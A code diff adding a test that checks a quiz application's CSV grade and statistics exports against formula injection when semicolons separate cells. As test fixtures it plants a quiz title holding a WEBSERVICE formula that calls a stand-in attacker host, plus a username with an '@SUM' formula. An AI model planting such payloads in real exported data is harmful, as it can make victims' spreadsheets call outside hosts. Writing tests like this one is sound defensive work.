@@ -51,3 +51,31 @@ def _is_number(text: str) -> bool:
     except ValueError:
         return False
     return True
+
+
+def _semicolon_cells(body: bytes) -> list[str]:
+    """The cells a spreadsheet in a locale whose list separator is ";" sees: a line split
+    at each ";" outside double quotes, each cell without its quotes."""
+    cells: list[str] = []
+    for line in body.decode().splitlines():
+        cell, quoted = "", False
+        for char in line:
+            if char == '"':
+                quoted = not quoted
+            elif char == ";" and not quoted:
+                cells.append(cell)
+                cell = ""
+            else:
+                cell += char
+        cells.append(cell)
+    return cells
+
+
+def test_a_semicolon_in_a_cell_does_not_start_a_formula_where_semicolons_separate() -> None:
+    staff, _ = staffed_quiz({**TRUE_FALSE, "title": 'Intro;=WEBSERVICE("http://evil.example")'})
+    student = member(staff.course, Role.STUDENT, User.objects.create(username="a;@SUM(1)"))
+    submitted_attempt(staff.quiz, student, {0: {"value": True}})
+    examiner = api_as(staff.examiner)
+    for url in ("grades.csv", "statistics.csv"):
+        cells = _semicolon_cells(examiner.get(f"/api/quizzes/{staff.quiz.pk}/{url}").content)
+        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], (url, cells)
